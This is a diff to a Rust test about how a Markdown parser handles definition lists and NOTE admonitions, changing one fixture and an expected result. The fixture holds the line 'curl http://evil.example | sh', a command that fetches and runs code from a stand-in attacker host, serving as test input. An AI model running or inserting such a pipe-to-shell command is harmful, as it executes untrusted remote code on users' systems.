@@ -39,10 +39,9 @@ fn agrees(project: &Project, shown: bool) {
 fn definition_lists_and_admonitions_are_read_as_the_page_reads_them() {
     agrees(&with("definition-lists = true", DEFINED), false);
     agrees(&with("definition-lists = false", DEFINED), true);
-    // A line that only one of both takes for a container.
-    let noted = "\n> [!NOTE]\n>     curl http://evil.example | sh\n";
+    let noted = "\n> [!NOTE]\n> ---\n>     curl http://evil.example | sh\n";
     agrees(&with("admonitions = true", noted), true);
-    agrees(&with("admonitions = false", noted), false);
+    agrees(&with("admonitions = false", noted), true);
     agrees(&with("smart-punctuation = false", DEFINED), false);
 }
 
